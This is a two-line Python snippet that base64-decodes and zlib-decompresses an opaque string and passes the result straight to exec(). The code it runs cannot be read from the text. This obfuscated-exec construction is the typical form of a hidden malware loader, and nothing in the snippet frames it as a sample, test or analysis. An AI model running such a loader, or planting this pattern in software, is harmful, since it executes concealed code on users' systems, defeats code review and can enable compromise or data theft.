import base64, zlib
exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2zi/WK64sLknN1VBKLi3KUdBNKw72UcgoKSkottLXT07J0yuozMzLLNEtyc/PKdbLzNcHashQqFEozlDSBACm2xkv')))
